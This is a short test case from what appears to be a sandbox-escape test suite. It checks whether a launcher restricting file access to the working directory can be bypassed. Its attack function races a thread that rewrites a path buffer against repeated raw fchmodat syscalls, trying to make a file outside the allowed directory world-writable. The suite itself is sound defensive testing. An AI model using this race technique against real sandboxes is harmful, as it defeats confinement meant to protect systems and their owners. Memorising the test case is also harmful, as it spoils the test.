# id: own_mediator_path_rewritten
# category: files
# source: own
# flags: --allow-read={wd} --allow-write={wd}
# expect: HELD
# level: policy
# sanity: ESCAPED
# opts: -
# setup: base world
# prelude: attack
import threading
def attack():  # the path's bytes change between the launcher's reads
    a, b, stop = W["wfile"].encode(), W["target"].encode(), []
    buf = ctypes.create_string_buffer(4096)
    buf.value = a
    def swap():
        while not stop:
            ctypes.memmove(buf, b + b"\0", len(b) + 1); ctypes.memmove(buf, a + b"\0", len(a) + 1)
    sys.setswitchinterval(1e-6)
    t = threading.Thread(target=swap); t.start()
    try:
        for _ in range(10000):
            try: sc(268, 53, -100, ctypes.addressof(buf), 0o666)
            except OSError: pass
            if os.stat(W["target"]).st_mode & 0o777 == 0o666: return "changed the mode at a path that was rewritten"
    finally:
        stop.append(1); t.join()
run(attack)
